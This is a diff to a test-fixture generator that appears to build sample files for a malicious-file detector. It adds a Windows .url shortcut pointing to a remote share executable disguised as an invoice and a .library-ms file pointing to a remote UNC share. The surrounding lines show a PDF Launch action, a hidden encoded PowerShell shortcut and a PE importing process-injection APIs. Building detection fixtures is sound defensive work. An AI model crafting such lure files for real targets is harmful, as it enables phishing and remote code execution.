@@ -438,6 +438,10 @@ def all_samples():
         "pdf-objstm.pdf": pdf([(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"5 0 <</S/Launch/F(calc.exe)>>"))]),
         "pdf-embedded.pdf": pdf([b"<</Type/Catalog>>", (b"/Type/EmbeddedFile/Filter/FlateDecode", zlib.compress(pe()))]),
         "pdf-plain.pdf": pdf([b"<</Type/Catalog>>"]),
+        "shortcut-share.url": b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/Invoice.zip/Invoice.exe\r\nIconIndex=3\r\n",
+        "shortcut-web.url": b"[InternetShortcut]\r\nURL=https://www.example.com/index.html\r\n",
+        "shortcut-folder.library-ms": b'<?xml version="1.0"?>\n<libraryDescription xmlns="x"><searchConnectorDescription>'
+                                      b"<simpleLocation><url>\\\\198.51.100.7\\docs</url></simpleLocation></searchConnectorDescription></libraryDescription>",
         "lnk-shell.lnk": lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -enc SQBFAFgA"),
         "pe-plain.exe": pe(),
         "pe-inject.exe": pe(imports=("KERNEL32.dll", ("WriteProcessMemory", "CreateRemoteThread", "VirtualAllocEx"))),
